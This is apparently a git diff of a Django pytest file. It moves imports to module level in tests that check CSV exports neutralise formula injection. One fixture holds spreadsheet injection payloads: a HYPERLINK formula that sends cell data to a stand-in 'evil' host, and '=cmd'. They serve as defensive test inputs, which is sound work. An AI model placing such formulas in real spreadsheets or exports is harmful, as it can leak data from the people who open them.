@@ -7,6 +7,7 @@ import time
 import tracemalloc
 
 import pytest
+from django.core.management import call_command
 
 from core import csvsafe, headersafe, jsonbounds
 from crm import handles
@@ -17,6 +18,7 @@ from outreach.channels.email import build
 from outreach.models import InboundEvent
 from outreach.webhooks import meta, tiktok, x
 from tests.api.conftest import api_for
+from tests.factories import CampaignFactory, ConsentEventFactory, PermissionRequestFactory
 from tests.fakes.smtp import email_config
 
 pytestmark = pytest.mark.django_db
@@ -262,9 +264,6 @@ def test_every_formula_start_is_neutralised(cell):
 
 
 def test_the_import_rejections_csv_neutralises_what_the_file_said(client, alice, tmp_path, settings):
-    from django.core.management import call_command
-
-    from crm.management.commands.import_creators import Command  # noqa: F401 (the command writes the same way)
 
     source = tmp_path / "creators.csv"
     source.write_text('name,instagram\n"=HYPERLINK(""http://evil/?""&A1)",=cmd\nJane,jane\n')
@@ -274,8 +273,6 @@ def test_the_import_rejections_csv_neutralises_what_the_file_said(client, alice,
 
 
 def test_the_campaign_decisions_csv_neutralises_creator_names(client, alice):
-    from tests.factories import CampaignFactory, ConsentEventFactory, PermissionRequestFactory
-
     campaign = CampaignFactory(owner=alice)
     request = PermissionRequestFactory(campaign=campaign, content__campaign=campaign, content__creator__name="=1+2")
     ConsentEventFactory(creator=request.content.creator, permission_request=request)
